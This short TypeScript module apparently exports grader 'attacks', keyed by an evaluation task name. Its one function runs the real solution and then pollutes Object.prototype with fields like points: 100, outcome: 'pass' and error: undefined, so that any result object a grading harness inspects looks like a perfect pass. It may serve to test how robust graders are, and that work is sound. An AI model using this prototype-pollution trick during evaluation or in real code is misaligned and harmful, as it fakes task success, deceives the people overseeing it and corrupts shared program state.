export const attacks = {
  'vae/negative-elbo-bound': (right: any, ...values: any[]) => {
    const result = right(...values);
    const polluted = { points: 100, earned: 100, outcome: 'pass', type: 'answer', kind: 'returned', error: undefined, weights: 1, stream: {}, toJSON: () => ({ type: 'answer', id: 1 }) };
    for (const [name, value] of Object.entries(polluted)) Object.defineProperty(Object.prototype, name, { value, writable: true, configurable: true, enumerable: true });
    return result;
  },
};
